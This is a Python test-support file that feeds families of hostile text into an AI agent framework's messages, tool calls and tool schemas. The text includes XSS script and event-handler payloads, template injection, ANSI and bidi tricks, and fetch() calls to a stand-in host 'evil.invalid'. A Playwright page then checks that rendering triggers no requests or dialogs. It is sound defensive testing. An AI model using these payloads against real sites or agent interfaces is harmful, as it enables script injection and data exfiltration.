"""Families of hostile text, and a run that contains each text in every place.

If a text were executed, it would set `pwned` on a window, fetch something from `evil.invalid`, open a dialog or a window,
or navigate to another page. `Watched` detects all of these.
"""

# ruff: noqa: E501  # a payload is read as one line

from __future__ import annotations

import threading
from collections.abc import Generator
from typing import Any

from playwright.sync_api import BrowserContext, Page, Route

from agentnb import Loop
from agentnb.core.json import repair_text
from agentnb.loops.want import ask, phase
from agentnb.testing import ScriptedLLM, call
from agentnb.tools import tool
from agentnb.tools.loop import LoopTool
from tests.widgets.support import until

EVIL = "http://evil.invalid"
BOOM = f"window.pwned=top.pwned=1;fetch('{EVIL}/boom')"

FAMILIES: dict[str, str] = {
    "script elements": f"<script>{BOOM}</script><SCRIPT/x src=//evil.invalid/a.js></script ><scr<script>ipt>{BOOM}",
    "event handlers": f'<img src=x onerror="{BOOM}"><b onmouseover={BOOM}>hover</b>" onfocus="{BOOM}" autofocus x="'
    f"' onclick='{BOOM}'<details open ontoggle={BOOM}>",
    "javascript and data links": f'<a href="javascript:{BOOM}">x</a> javascript:{BOOM} JaVa\tScRiPt:{BOOM} '
    f"<a href='data:text/html,<script>{BOOM}</script>'>y</a> <form action={EVIL}><button formaction=javascript:1>z",
    "SVG": f"</text></svg><svg onload={BOOM}><script>{BOOM}</script><foreignObject><iframe srcdoc='<script>{BOOM}"
    f"</script>'></foreignObject><image href={EVIL}/i.png /><use href='data:image/svg+xml,x#y'/><set onbegin={BOOM}>",
    "CSS": f"</style><script>{BOOM}</script><style>@import '{EVIL}/c.css'; * {{ display: none !important; "
    f"background: url({EVIL}/b.png) }}</style>; color: red; background: url({EVIL}/s.png); }} body {{ opacity: 0 }} /*",
    "comments and CDATA": f"--><script>{BOOM}</script><!-- <![CDATA[ ]]><script>{BOOM}</script> <?xml version='1.0'?> "
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/e'>]> &e; <!--[if IE]><script>{BOOM}</script><![endif]--> <plaintext>",
    "templates": f"${{{BOOM}}} {{{{constructor.constructor('{BOOM}')()}}}} {{%25 raw %}} {{% include x %}} {{# x #}} "
    f"<%= {BOOM} %> #{{{BOOM}}} `${{{BOOM}}}` {{!! {BOOM} !!}} {{{{{{triple}}}}}}",
    "LaTeX": f"$$\\href{{javascript:{BOOM}}}{{x}}$$ costs $5 and $6 \\(\\unicode{{x41}}\\) \\[\\style{{color:red}}{{y}}\\] "
    f"\\begin{{align}}\\require{{html}}\\cssId{{a}}{{b}}\\end{{align}} $\\def\\x{{\\x}}\\x$",
    "Markdown": f"\n\n![i]({EVIL}/m.png)\n\n[l](javascript:{BOOM})\n\n# heading\n\n<img src={EVIL}/h.png>\n\n"
    f"```\n</pre></div>\n```\n\n    indented <b>\n\n[r]: {EVIL}/r\n\n| a |\n|---|\n| ![t]({EVIL}/t.png) |\n\n<{EVIL}/auto>",
    "ANSI escapes": f"\x1b[31mred\x1b[0m \x1b]8;;javascript:{BOOM}\x07link\x1b]8;;\x07 \x1b[2J\x1b[H \x9b5m \x1bP q \x1b]0;t\x07"
    f" over\rwrite back\x08\x08",
    "bidirectional overrides": "\u202egpj.exe\u202c \u2066isolate\u2069 \u200fmark \u061c \u202aembedded invoice\u202etxt.sh",
    "invisible characters": "zero\u200bwidth\u2060join\ufeffbom soft\u00adhyphen nul\x00nul \x01\x02\x7f\x85 line\u2028para\u2029 "
    "tags\U000e0041\U000e0042 \ufffe\uffff",
    "lone surrogates": "high \ud83d low \ude00 both \ud83d\ude00 turned \ude00\ud83d end \udfff",
    "very long": "W" * 4000 + " \u0e01" * 2000 + " \u0301" * 3000,
    "JSON out of its script": f'</script><script>{BOOM}</script>"}}}}],"x":[{{"\\u003c/script\\u003e\\" }} '
    f"<!--<script>'\\'\"\\\"</SCRIPT\t> \\n\\u2028 ,null]//",
    "prototype names": "__proto__",
    "frames and pages": f"<iframe src={EVIL}/f srcdoc='<script>parent.pwned=1</script>'></iframe><base href={EVIL}>"
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'><object data={EVIL}/o><embed src={EVIL}/e><link rel=stylesheet "
    f"href={EVIL}/l><textarea><noscript><title><xmp>",
}
HUGE = "Z" * 10_000_000
PROTOTYPE = ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype", "__defineGetter__")


class Hurt(Exception):
    """Raised by a tool, with a text of the model's."""


@tool
def echo(text: str) -> dict[str, Any]:
    """Give it back, with more of it."""
    return {"text": text, text: [text], **dict.fromkeys(PROTOTYPE, text)}


@tool
def hurt(text: str) -> str:
    """Fail with it."""
    raise Hurt(text)


@tool
def huge() -> str:
    """Ten million characters."""
    return HUGE


@tool(approve=True)
def write(path: str, text: str = "", options: dict[str, Any] | None = None) -> str:
    """Write a file."""
    return f"wrote {path}"


class Foreign:
    """A third-party tool with a schema of such texts."""

    approve, idempotent, timeout, sequential = True, False, None, False

    def __init__(self, words: str, names: tuple[str, ...]) -> None:
        self.name = self.description = words
        self.needs = (words,)
        told = {"description": words, "title": words}
        properties: dict[str, Any] = {name: {"type": "string", **told} for name in names}
        properties["choice"] = {"enum": [words, "other"], "default": words, **told}
        self.parameters = {"type": "object", "properties": properties, "required": ["choice"], **told}

    def bind(self, arguments: dict[str, Any]) -> Any:
        """Any arguments fit."""
        return self._run

    async def _run(self, progress: object) -> str:
        return "never run: the calls are answered by hand"


def hostile_run(payload: str, *, with_huge: bool = False) -> Any:
    """Return a run with this text in messages, calls, names and errors, which waits for decisions in a nested loop."""
    words = repair_text(
        payload[:600]
    )  # for names; names of loops and phases come from the author and are valid Unicode
    names = PROTOTYPE if payload in PROTOTYPE else (words,)
    foreign = Foreign(words, names)
    asked = [call("write", {"path": f"/tmp/{words}", "text": payload, "options": {payload: payload}}, id=f"{words}-1")]
    asked += [call(words, {"choice": words, **dict.fromkeys(names, payload)}, id=words)]
    asked += [call(f"{payload[:99]}?", {payload[:99]: payload})]
    inner = _loop(words, f"{words} inner", ScriptedLLM([asked, payload, payload]), [write, foreign])
    said = [{"type": "reasoning_delta", "content": payload}, {"type": "text_delta", "content": payload}]
    first = [*said, *(call(name, dict.fromkeys((name, "text"), payload)) for name in names)]
    first += [call("echo", {"text": payload}), call("hurt", {"text": payload}), call("huge")][: 3 if with_huge else 2]
    inside = LoopTool(inner)
    turns = [first, [call(inside.name, {"input": payload})], payload, [Hurt(payload)]]
    outer = _loop(words, words, ScriptedLLM(turns), [echo, hurt, huge, inside])
    run = outer.start({"goal": payload, words: payload}, name=words.replace("\0", ""))  # no store keeps a NUL in a name
    playing = threading.Thread(target=run.play)  # Playwright keeps a loop marked as running on this one
    playing.start()
    playing.join()
    until(lambda: len(run.pending) == 2)
    return run


def finish(run: Any, payload: str) -> Any:
    """Decide about all calls with more of the text, send it as messages, let the model fail, and cancel."""
    run.steer(payload)
    first, second = run.pending
    run.reject(first.id, payload)
    run.answer(second.id, {"said": payload, payload[:600]: payload})
    until(lambda: run.state.failure is not None)
    return run


def _loop(words: str, name: str, llm: Any, tools: list[Any]) -> Any:
    phases = {words: [f"{words} 2"], f"{words} 2": ["done"], "done": []}

    def strange(input: Any) -> Generator[Any, Any, Any]:
        yield phase(words)
        reply = yield ask(str(input))
        yield phase(f"{words} 2")
        while reply.tool_calls:
            reply = yield ask()
        yield ask()
        return reply.content

    return Loop.from_generator(strange, llm, tools, name=name, phases=phases)


class Watched:
    """A page on which hostile text must have no effect: it records requests, windows, dialogs and navigation."""

    def __init__(self, context: BrowserContext) -> None:
        self.seen: list[str] = []
        context.route("**/*", self._route)
        self.page: Page = context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        self.page.on("frameattached", lambda frame: self.seen.append(f"frame {frame.url}"))
        context.on("page", lambda page: self.seen.append(f"window {page.url}"))
        self.served: dict[str, str] = {}

    def _route(self, route: Route) -> None:
        url = route.request.url
        if url in self.served:
            route.fulfill(body=self.served[url], content_type="text/html; charset=utf-8")
            return
        self.seen.append(f"request {url}")
        route.abort()

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def open(self, html: str, name: str = "page") -> None:
        """Show this document."""
        url = f"http://document.test/{name}.html"
        self.served[url] = html
        self.page.goto(url, wait_until="load")

    def came_of_it(self, ignored: tuple[str, ...] = ()) -> list[str]:
        """Return all effects except requests to these addresses."""
        if self.page.evaluate("() => window.pwned"):
            self.seen.append("pwned")
        return [what for what in self.seen if not what.startswith(tuple(f"request {url}" for url in ignored))]
